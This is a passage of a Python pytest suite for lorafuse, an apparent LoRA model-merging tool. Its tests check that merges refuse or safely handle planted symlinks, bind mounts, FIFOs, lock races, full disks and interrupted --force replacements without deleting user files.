    as it is, keeps the finished merge staged, and the same command moves it into place once OUT is gone."""
    out = tmp_path / "out"

    def someone_makes_out(plan):
        out.mkdir()
        (out / "theirs.txt").write_text("theirs")

    with pytest.raises(lorafuse.LorafuseError, match=f"{out} appeared while merging .* the finished merge is in "):
        lorafuse.merge(*inputs, out, max_shard_size=SHARD, on_plan=someone_makes_out)
    assert sorted(p.name for p in out.iterdir()) == ["theirs.txt"] and (out / "theirs.txt").read_text() == "theirs"
    (out / "theirs.txt").rename(tmp_path / "theirs.txt")
    out.rmdir()
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert report.shards_resumed == report.shards  # nothing merged again
    assert tree_hash(out) == reference and not leftovers(tmp_path)


def test_force_replaces_only_the_out_it_was_given_for(renames, inputs, reference, tmp_path):
    """With --force, OUT moved away and replaced by another folder while merging: neither is deleted."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "old.txt").write_text("old")
    (out / MANIFEST).write_text(EARLIER_MERGE)  # what --force replaces: an earlier merge (by its manifest)

    def someone_replaces_out(plan):
        out.rename(tmp_path / "moved")
        out.mkdir()
        (out / "new.txt").write_text("new")
        (out / MANIFEST).write_text(json.dumps({"files": {"new.txt": {}}}))

    with pytest.raises(lorafuse.LorafuseError, match=f"{out} was replaced or changed while merging"):
        lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True, on_plan=someone_replaces_out)
    assert sorted(p.name for p in out.iterdir()) == [MANIFEST, "new.txt"] and (out / "new.txt").read_text() == "new"
    assert (tmp_path / "moved" / "old.txt").read_text() == "old"
    lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True)  # given for this OUT now: replaced
    assert tree_hash(out) == reference and not leftovers(tmp_path)


@pytest.mark.parametrize("kind, how", [("partial", "named"), ("lock", "named"), ("old", "named"),
                                       ("partial", "named through a link"), ("partial", "a link there names it"),
                                       ("partial", "a file of it links there")])
@pytest.mark.parametrize("which", [0, 1], ids=["base", "adapter"])
def test_an_input_at_a_path_lorafuse_writes_is_refused_untouched(inputs, tmp_path, kind, how, which):
    """`cp -r base .x.lorafuse-partial; lorafuse merge .x.lorafuse-partial adapter x`: the staging folder,
    lock file and old OUT of x are lorafuse's to create and delete, so an input there (named directly or
    through a link, either way round) is refused before anything is created or deleted."""
    import shutil

    out = tmp_path / "x"
    out.mkdir()  # with --force, the old OUT's temporary name is in play too
    work = tmp_path / f".x.lorafuse-{kind}"
    given = list(inputs)
    if how != "named" and how.startswith("a "):
        given[which] = tmp_path / "real"
        shutil.copytree(inputs[which], given[which])
        if how == "a link there names it":
            work.symlink_to(given[which])
        else:  # its config lies in the staging folder
            config = given[which] / ("config.json", "adapter_config.json")[which]
            work.mkdir()
            config.rename(work / config.name)
            config.symlink_to(work / config.name)
    else:
        shutil.copytree(inputs[which], work)
        given[which] = work
        if how == "named through a link":
            given[which] = tmp_path / "link"
            given[which].symlink_to(work)
    before = sorted(p.name for p in tmp_path.iterdir()), tree_hash(given[which]), tree_hash(tmp_path)
    with pytest.raises(lorafuse.LorafuseError, match="overlaps the (base model|adapter) (folder|file)|in lorafuse's way"):
        lorafuse.merge(*given, out, force=True)
    assert (sorted(p.name for p in tmp_path.iterdir()), tree_hash(given[which]), tree_hash(tmp_path)) == before


@pytest.fixture
def bind_mount(tmp_path):
    """`bind_mount(folder)` -> a second path showing `folder` (mount --bind, as root), unmounted afterwards."""
    mounted = []

    def mount(folder: Path) -> Path:
        view = tmp_path / f"view{len(mounted)}"
        view.mkdir()
        done = subprocess.run(["mount", "--bind", str(folder), str(view)], capture_output=True, text=True)
        if done.returncode != 0:
            pytest.skip(f"mount --bind is not allowed here: {done.stderr.strip()}")
        mounted.append(view)
        return view

    yield mount
    for view in reversed(mounted):
        subprocess.run(["umount", str(view)], check=True)


@pytest.mark.parametrize("out_at", ["the base", "inside the base", "the staging folder of the base's parent"])
def test_an_input_seen_through_a_bind_mount_is_still_an_input(inputs, tmp_path, bind_mount, out_at):
    """A bind mount shows a folder under a second path that no path comparison, links resolved or not,
    can tell from another folder. The base here is an earlier merge (merging a second adapter into it),
    which --force would replace: the paths are compared as the files they name, (device, inode)."""
    import shutil

    models = tmp_path / "models"
    base = models / "merged"
    models.mkdir()
    lorafuse.merge(*inputs, base)
    view = bind_mount(models)
    out = {"the base": view / "merged", "inside the base": view / "merged" / "again",
           "the staging folder of the base's parent": view / "new"}[out_at]
    if out_at.startswith("the staging"):  # the base lies inside what would be the staging folder
        shutil.move(base, models / ".new.lorafuse-partial" / "merged")
        base = models / ".new.lorafuse-partial" / "merged"
    before = tree_hash(tmp_path)
    with pytest.raises(lorafuse.LorafuseError, match=f"overlaps the base model folder {base}; choose an output folder elsewhere"):
        lorafuse.merge(base, inputs[1], out, force=True)
    assert tree_hash(tmp_path) == before and sorted(p.name for p in view.iterdir()) == sorted(p.name for p in models.iterdir())


def test_the_lock_admits_one_merge_even_when_opened_just_before_its_holder_deletes_it(tmp_path, monkeypatch):
    """The holder deletes the lock file when done; a merge that opened it just before locks the deleted
    file, while a third locks a new one: only one of them may go on. Threads, in a fixed order: B opens
    the lock file while A holds it, A finishes, C takes the lock, then B locks what it opened."""
    import fcntl
    import threading

    import lorafuse.output as output

    out = tmp_path / "out"
    b_opened, b_may_lock = threading.Event(), threading.Event()

    class Fcntl:  # fcntl as lorafuse.output sees it: B waits between opening and locking, once
        LOCK_EX, LOCK_NB = fcntl.LOCK_EX, fcntl.LOCK_NB

        @staticmethod
        def flock(fd, op):
            if threading.current_thread().name == "B" and not b_may_lock.is_set():
                b_opened.set()
                b_may_lock.wait(30)
            fcntl.flock(fd, op)

    monkeypatch.setattr(output, "fcntl", Fcntl)
    inside, got = [], {}

    def b():
        try:
            with output.exclusive(out):
                inside.append("B")
        except lorafuse.LorafuseError as e:
            got["B"] = e

    with output.exclusive(out):  # A
        thread = threading.Thread(target=b, name="B")
        thread.start()
        assert b_opened.wait(30)
    with output.exclusive(out):  # C, after A is done
        inside.append("C")
        b_may_lock.set()
        thread.join(30)
        assert not thread.is_alive()
    assert inside == ["C"] and "another lorafuse merge is writing" in str(got["B"])
    with output.exclusive(out):  # free again, and nothing left behind
        pass
    assert not leftovers(tmp_path)


def test_a_shard_finished_but_not_recorded_when_the_disk_filled_does_not_block_the_rerun(inputs, small_disk, tmp_path,
                                                                                         monkeypatch):
    """The disk fills just after a shard is complete and renamed, as its ledger entry is written: the
    shard is neither trusted nor counted by a rerun. The rerun deletes it before checking for room, so
    room for a fresh merge is enough; with less, the refusal names the staging folder and what it holds."""
    import errno

    from lorafuse.plan import DISK_MARGIN
    from lorafuse.manifest import Ledger
    from lorafuse.units import human_size

    shard = "40KB"  # shards of several pages: one not counted is more than the slack below
    reference = tmp_path / "reference" / "out"  # the same name: the model card names it
    reference.parent.mkdir()
    lorafuse.merge(*inputs, reference, max_shard_size=shard)
    record, calls = Ledger.record, []

    def record_until_the_disk_fills(self, *args):
        calls.append(args)
        if len(calls) == 2:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        record(self, *args)

    out, filler = small_disk / "out", small_disk / "filler"
    monkeypatch.setattr(Ledger, "record", record_until_the_disk_fills)
    staging = staging_folder(out)
    with pytest.raises(lorafuse.LorafuseError, match=f"is full; free space and run the same command again: it goes on "
                                                     f"from the .* finished in {staging}$"):
        lorafuse.merge(*inputs, out, max_shard_size=shard)
    monkeypatch.setattr(Ledger, "record", record)
    recorded = json.loads((staging / LEDGER).read_text())["shards"]
    assert len(recorded) == 1 and len(list(staging.glob("model-*.safetensors"))) == 2

    output = lorafuse.plan(*inputs, max_shard_size=shard).output_bytes
    used = sum(p.stat().st_blocks * 512 for p in staging.iterdir())
    stat = os.statvfs(small_disk)
    page, free = stat.f_frsize, stat.f_bavail * stat.f_frsize
    slack = 4 * page  # for the ledger and each file's last page, less than the shard not recorded
    fits = DISK_MARGIN + output - used + slack  # free space with which a fresh merge would fit
    filler.write_bytes(b"\0" * ((free - (fits - 2 * slack)) // page * page))
    kept = sum(e["size"] for e in recorded.values())
    with pytest.raises(lorafuse.LorafuseError, match=f"besides the {human_size(kept)} of it that {staging} holds\\) and "
                                                     f"{human_size(DISK_MARGIN)} to spare, but only .* it will not fit"):
        lorafuse.merge(*inputs, out, max_shard_size=shard)
    os.truncate(filler, filler.stat().st_size - 2 * slack)  # now a fresh merge would fit
    report = lorafuse.merge(*inputs, out, max_shard_size=shard)
    assert report.shards_resumed == 1 and tree_hash(out) == tree_hash(reference)


# The staging folder, lock file and old OUT: lorafuse follows no link there and deletes only what it made.

def _own_base(inputs, tmp_path) -> Path:
    """A copy of the base: a test that finds a hole overwrites it, and the module's base must stay whole."""
    import shutil

    base = tmp_path / "base"
    shutil.copytree(inputs[0], base)
    return base


def _marked_staging(out: Path) -> Path:
    """A staging folder as a merge leaves it (marked as lorafuse's), to plant things in."""
    from lorafuse.output import MARKER

    staging = staging_folder(out)
    staging.mkdir()
    (staging / MARKER).write_bytes(b"")
    return staging


def _ledger(staging: Path, plan, shards: dict) -> None:
    """A ledger with this merge's fingerprint (settings as merge() records them on the CPU)."""
    from lorafuse.manifest import fingerprint, settings_record

    (staging / LEDGER).write_text(json.dumps({"fingerprint": fingerprint(plan, settings_record(plan, "cpu")),
                                              "shards": shards}))


@pytest.fixture
def undeletable(monkeypatch):
    """Make a path impossible to delete: chattr (+a on a folder: nothing in it can be unlinked; +i on a
    file) where the file system has it, else unlink and rmtree failing for it as they would. Undone after."""
    import errno
    import shutil

    locked = []

    def lock(path: Path) -> None:
        flag = "+a" if path.is_dir() else "+i"
        if shutil.which("chattr") and subprocess.run(["chattr", flag, str(path)], capture_output=True).returncode == 0:
            locked.append((path, flag.replace("+", "-")))
            return

        def refusing(real):
            def call(p, *args, **kwargs):
                if path in (Path(p), Path(p).parent):
                    raise PermissionError(errno.EPERM, os.strerror(errno.EPERM), str(p))
                return real(p, *args, **kwargs)
            return call
        monkeypatch.setattr(Path, "unlink", refusing(Path.unlink))
        monkeypatch.setattr(shutil, "rmtree", refusing(shutil.rmtree))

    yield lock
    for path, flag in locked:  # not checked: where the test failed, the path may have moved (into OUT)
        subprocess.run(["chattr", flag, str(path)])


@pytest.mark.parametrize("name", ["model.safetensors.partial", "model.safetensors"])
@pytest.mark.parametrize("marked", [True, False], ids=["marked", "unmarked"])
def test_a_link_in_the_staging_folder_is_never_followed(inputs, tmp_path, name, marked):
    """A link to the base's weights planted in the staging folder, with a ledger of the right fingerprint
    naming it (as a partial file, or as a finished shard with the base file's hash): the base is never
    written, and OUT holds no link. A marked folder is cleared and the merge goes on; an unmarked one is
    not lorafuse's, and is refused as it is."""
    base = _own_base(inputs, tmp_path)
    reference = tmp_path / "reference" / "out"  # the same name: the model card names it
    reference.parent.mkdir()
    lorafuse.merge(base, inputs[1], reference)
    out, weights = tmp_path / "out", base / "model.safetensors"
    before = tree_hash(base)
    if marked:
        staging = _marked_staging(out)
    else:
        staging = staging_folder(out)
        staging.mkdir()
    (staging / name).symlink_to(weights)
    _ledger(staging, lorafuse.plan(base, inputs[1], out),
            {name: {"size": weights.stat().st_size, "xxh3_128": file_digest(weights, "xxh3_128")}})
    if marked:
        lorafuse.merge(base, inputs[1], out)
        assert tree_hash(out) == tree_hash(reference) and not any(p.is_symlink() for p in out.iterdir())
    else:
        with pytest.raises(lorafuse.LorafuseError, match=f"{staging} is not a staging folder of this lorafuse \\(it "
                                                         f"holds {LEDGER}, {name}\\); .* move it away"):
            lorafuse.merge(base, inputs[1], out)
        assert (staging / name).is_symlink() and not out.exists()
    assert tree_hash(base) == before


def test_a_staging_folder_that_cannot_be_cleared_stops_the_merge(inputs, tmp_path, undeletable):
    """A link to the base's weights at a partial shard's name, in a staging folder nothing can be deleted
    from, and no ledger: the merge stops, naming the folder, before it writes anything."""
    base = _own_base(inputs, tmp_path)
    out = tmp_path / "out"
    before = tree_hash(base)
    staging = _marked_staging(out)
    (staging / "model.safetensors.partial").symlink_to(base / "model.safetensors")
    undeletable(staging)
    with pytest.raises(lorafuse.LorafuseError, match=f"^cannot clear {staging}: .*; remove it by hand$"):
        lorafuse.merge(base, inputs[1], out)
    assert tree_hash(base) == before and not out.exists()


def test_a_folder_of_the_user_at_the_staging_name_is_left_alone(inputs, reference, tmp_path):
    """`mkdir .out.lorafuse-partial; echo mine > .out.lorafuse-partial/keep.txt`: not lorafuse's, so
    not deleted; an empty folder there is taken."""
    out = tmp_path / "out"
    staging = staging_folder(out)
    staging.mkdir()
    (staging / "keep.txt").write_text("mine")
    with pytest.raises(lorafuse.LorafuseError, match=f"{staging} is not a staging folder of this lorafuse \\(it holds "
                                                     "keep.txt\\); .* move it away \\(or delete it\\) and run again"):
        lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert (staging / "keep.txt").read_text() == "mine" and not out.exists()
    (staging / "keep.txt").unlink()
    lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert tree_hash(out) == reference and not leftovers(tmp_path)


def test_an_old_out_left_by_an_interrupted_force_merge_is_never_deleted(renames, inputs, reference, tmp_path):
    """`.out.lorafuse-old` may be the only copy of an earlier OUT: whatever the merge, it is refused."""
    out, old = tmp_path / "out", tmp_path / ".out.lorafuse-old"
    out.mkdir()
    old.mkdir()
    (old / "keep.txt").write_text("mine")
    with pytest.raises(lorafuse.LorafuseError, match=f"{old} is in lorafuse's way: it may hold an earlier {out} that a "
                                                     "--force merge was replacing when it stopped; move it back"):
        lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True)
    assert (old / "keep.txt").read_text() == "mine"
    old.rename(tmp_path / "kept")
    lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True)
    assert tree_hash(out) == reference and not leftovers(tmp_path)


def test_ctrl_c_between_the_two_renames_of_force_puts_out_back(inputs, reference, tmp_path, monkeypatch):
    """Where no atomic exchange exists, --force moves OUT aside, then the merge in: a Ctrl-C in between
    puts OUT back, leaving the finished merge staged for the same command."""
    import ctypes
    import errno

    import lorafuse.output as output

    def missing(*args):
        ctypes.set_errno(errno.ENOSYS)
        return False

    rename = os.rename

    def interrupted(src, dst):
        if Path(src) == staging_folder(out):
            raise KeyboardInterrupt
        rename(src, dst)

    out = tmp_path / "out"
    out.mkdir()  # an earlier merge: what --force replaces
    (out / "old.txt").write_text("old")
    (out / "lorafuse-manifest.json").write_text(EARLIER_MERGE)
    monkeypatch.setattr(output, "_renameat2", missing)
    monkeypatch.setattr(output.os, "rename", interrupted)
    with pytest.raises(KeyboardInterrupt) as caught:
        lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True)
    assert type(caught.value) is KeyboardInterrupt  # not told as complete: it is not
    assert sorted(p.name for p in out.iterdir()) == ["lorafuse-manifest.json", "old.txt"] and not (tmp_path / ".out.lorafuse-old").exists()
    monkeypatch.setattr(output.os, "rename", rename)
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True)
    assert report.shards_resumed == report.shards and tree_hash(out) == reference and not leftovers(tmp_path)


def test_a_file_the_merge_did_not_write_is_never_published(inputs, reference, tmp_path):
    """A file that turns up in the staging folder while merging would land in OUT and its manifest: the
    merge is refused before the move, finished and staged; the same command then goes on without it."""
    out = tmp_path / "out"
    staging = staging_folder(out)

    def someone_adds_a_file(plan):
        staging.mkdir(exist_ok=True)
        (staging / "foreign.txt").write_text("not the merge's")

    with pytest.raises(lorafuse.LorafuseError, match=f"{staging / 'foreign.txt'} is not a file this merge wrote, and "
                                                     f"it would be published in {out}; move it away"):
        lorafuse.merge(*inputs, out, max_shard_size=SHARD, on_plan=someone_adds_a_file)
    assert not out.exists() and "foreign.txt" not in json.loads((staging / MANIFEST).read_text())["files"]
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert report.shards_resumed == report.shards and tree_hash(out) == reference


def test_a_file_that_cannot_be_deleted_from_the_staging_folder_stops_the_merge(inputs, tmp_path, undeletable):
    out = tmp_path / "out"
    staging = _marked_staging(out)
    (staging / "foreign.txt").write_text("not the merge's")
    undeletable(staging / "foreign.txt")
    with pytest.raises(lorafuse.LorafuseError, match=f"^cannot clear {staging}: .*; remove it by hand$"):
        lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert not out.exists()


@pytest.mark.parametrize("entry", ["x", None, [], {"size": "1", "sha256": "0" * 64}])
def test_ledger_entries_of_the_wrong_type_are_dropped(inputs, reference, tmp_path, entry):
    """A ledger with the right fingerprint but an entry that `record` never writes, for a shard that is
    there: it is not trusted, and the merge starts afresh."""
    out = tmp_path / "out"
    plan = lorafuse.plan(*inputs, out, max_shard_size=SHARD)
    staging = _marked_staging(out)
    (staging / plan.shards[0].filename).write_bytes(b"1")
    _ledger(staging, plan, {plan.shards[0].filename: entry})
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert report.shards_resumed == 0 and tree_hash(out) == reference


RUN_COMMAND = """
import sys
from lorafuse_command import main
sys.exit(main())
"""


def _lorafuse(*argv, timeout: int = 120, **kwargs) -> subprocess.CompletedProcess:
    """The command in a process of its own, so that a hang fails the test (TimeoutExpired) instead of the run."""
    return subprocess.run([sys.executable, "-c", RUN_COMMAND, *map(str, argv)], capture_output=True, text=True,
                          timeout=timeout, **kwargs)


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_fifo_or_device_at_the_lock_path_is_refused_without_waiting(inputs, tmp_path, kind):
    """A FIFO would hang the merge (opening it for writing waits for a reader), and a device is not
    lorafuse's to lock and delete: both are refused, and left as they are."""
    out, lock = tmp_path / "out", tmp_path / ".out.lorafuse-lock"
    if kind == "fifo":
        os.mkfifo(lock)
        problem = f"cannot create the lock file {lock}: it is a FIFO; remove what is there"
    else:
        try:
            os.mknod(lock, 0o666 | __import__("stat").S_IFCHR, os.makedev(1, 3))  # /dev/null's numbers
        except PermissionError:
            pytest.skip("making a device node needs root")
        problem = f"{lock} is not a regular file (a FIFO or a device?), so it is not lorafuse's lock file; remove it"
    done = _lorafuse("merge", *inputs, out)
    assert (done.returncode, done.stderr) == (2, f"lorafuse: error: {problem}\n")
    assert os.path.lexists(lock) and not out.exists() and not staging_folder(out).exists()


def _limit_memory() -> None:
    """A ledger read without end fails at 4 GiB instead of taking the machine's memory."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))


@pytest.mark.parametrize("kind", ["fifo", "link to /dev/zero", "device"])
def test_a_ledger_that_is_not_a_regular_file_is_no_ledger(inputs, reference, tmp_path, kind):
    """A FIFO as the ledger would hang the merge, a link to /dev/zero or a device would be read without
    end: none is a ledger, and the merge starts afresh."""
    out = tmp_path / "out"
    ledger = _marked_staging(out) / LEDGER
    if kind == "fifo":
        os.mkfifo(ledger)
    elif kind == "link to /dev/zero":
        ledger.symlink_to("/dev/zero")
    else:
        try:
            os.mknod(ledger, 0o644 | __import__("stat").S_IFCHR, os.makedev(1, 5))  # /dev/zero's numbers
        except PermissionError:
            pytest.skip("making a device node needs root")
    done = _lorafuse("merge", *inputs, out, "--max-shard-size", SHARD, "--quiet", preexec_fn=_limit_memory)
    assert (done.returncode, done.stderr) == (0, "")
    assert tree_hash(out) == reference and not leftovers(tmp_path)


# Sends SIGINT to the command itself once OUT (argv[2]) exists, just after the function named by argv[1] returns.
INTERRUPT_ONCE_OUT_EXISTS = """
import importlib, os, signal, sys
from pathlib import Path
module, name = sys.argv.pop(1).rsplit(".", 1)
module, out = importlib.import_module(module), Path(sys.argv.pop(1))
real = getattr(module, name)
def hooked(*args, **kwargs):
    result = real(*args, **kwargs)
    if out.exists():
        os.kill(os.getpid(), signal.SIGINT)
    return result
setattr(module, name, hooked)
from lorafuse_command import main
sys.exit(main())
"""


@pytest.mark.parametrize("where", ["lorafuse.output.fsync_path", "lorafuse.api._peak_rss", "lorafuse.cli.human_size"],
                         ids=["in publish", "in the report", "after merge returned"])
def test_ctrl_c_once_out_is_complete_says_so(inputs, reference, tmp_path, where):
    """Ctrl-C the moment OUT appears, wherever that lands: not 'the output folder was not touched'."""
    out = tmp_path / "out"
    argv = [out, "merge", *inputs, out, "--max-shard-size", SHARD]
    done = subprocess.run([sys.executable, "-c", INTERRUPT_ONCE_OUT_EXISTS, where, *map(str, argv)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 130
    assert done.stderr.splitlines()[-1] == f"lorafuse: interrupted after {out} was complete; the merge is done"
    assert tree_hash(out) == reference


def test_force_never_deletes_what_was_added_to_an_earlier_merge(inputs, tmp_path):
    """--force deletes the old OUT whole: a file the user added to an earlier merge (a GGUF converted next
    to it), or a folder mounted inside it, is not lorafuse's, so the merge is refused and nothing is touched."""
    out = tmp_path / "out"
    lorafuse.merge(*inputs, out)
    (out / "model-f16.gguf").write_text("mine")
    with pytest.raises(lorafuse.LorafuseError, match="model-f16.gguf is not one of the files its lorafuse-manifest"):
        lorafuse.merge(*inputs, out, force=True)
    (out / "model-f16.gguf").unlink()
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "thesis.txt").write_text("mine")
    (out / "data").mkdir()
    subprocess.run(["mount", "--bind", str(precious), str(out / "data")], check=False)
    try:
        with pytest.raises(lorafuse.LorafuseError, match="data is not one of the files"):
            lorafuse.merge(*inputs, out, force=True)
    finally:
        subprocess.run(["umount", str(out / "data")], capture_output=True)
    assert (precious / "thesis.txt").read_text() == "mine" and not leftovers(tmp_path)


@pytest.mark.parametrize("change", ["made anew", "given a file"])
def test_force_replaces_the_out_of_the_start_unchanged_or_nothing(inputs, reference, tmp_path, change):
    """OUT deleted and made again while merging (a file system gives the new folder the old one's inode
    number more often than not), or an empty OUT given a file: not the folder --force was given for."""
    out = tmp_path / "out"
    out.mkdir()

    def someone_changes_out(plan):
        if change == "made anew":
            out.rmdir()
            out.mkdir()
        (out / "my-work.txt").write_text("mine")

    with pytest.raises(lorafuse.LorafuseError, match=f"{out} was replaced or changed while merging"):
        lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True, on_plan=someone_changes_out)
    assert sorted(p.name for p in out.iterdir()) == ["my-work.txt"] and (out / "my-work.txt").read_text() == "mine"
    (out / "my-work.txt").unlink()
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True)  # the staged merge, moved in
    assert report.shards_resumed == report.shards and tree_hash(out) == reference and not leftovers(tmp_path)


def test_a_merge_of_an_earlier_merge_has_its_own_manifest(inputs, tmp_path):
    """The base's lorafuse-manifest.json is not carried: OUT's would list a copy of it, hashed before the
    merge wrote its own over it, and fail verify."""
    from lorafuse.tools.verify import verify

    lorafuse.merge(*inputs, tmp_path / "m1")
    lorafuse.merge(tmp_path / "m1", inputs[1], tmp_path / "m2")
    assert verify(tmp_path / "m2", tmp_path / "m1", inputs[1]) == []


def test_an_output_name_too_long_for_its_staging_folder_is_refused(inputs, tmp_path):
    out = tmp_path / ("o" * 240)
    with pytest.raises(lorafuse.LorafuseError, match="name is too long"):
        lorafuse.merge(*inputs, out)
    assert not leftovers(tmp_path)


def test_a_link_at_the_downloads_folder_is_not_kept_on_resume(inputs, reference, tmp_path):
    """The downloads folder of a --low-disk run is kept on resume, and the Hub client writes into it and
    lorafuse deletes from it: a link there (to the user's files) is removed, never written or deleted through."""
    out = tmp_path / "out"
    assert _run_killed(2, "merge", *inputs, out, "--max-shard-size", SHARD, "--quiet") == 137
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("mine")
    (staging_folder(out) / "downloads").symlink_to(victim)
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert report.shards_resumed == 2 and tree_hash(out) == reference
    assert (victim / "keep.txt").read_text() == "mine" and not leftovers(tmp_path)


def test_a_mount_point_as_out_is_refused_before_any_work(inputs, tmp_path):
    """An empty mount point at OUT with --force: the final rename failed as "busy" after the whole merge
    (and the disk checked was the mount's, not the staging folder's)."""
    out, mounted = tmp_path / "out", tmp_path / "mounted"
    out.mkdir()
    mounted.mkdir()
    done = subprocess.run(["mount", "--bind", str(mounted), str(out)], capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"mount --bind is not allowed here: {done.stderr.strip()}")
    try:
        with pytest.raises(lorafuse.LorafuseError, match="is a mount point, which lorafuse cannot replace"):
            lorafuse.merge(*inputs, out, force=True)
        assert list(out.iterdir()) == [] and not leftovers(tmp_path)
    finally:
        subprocess.run(["umount", str(out)], check=True)
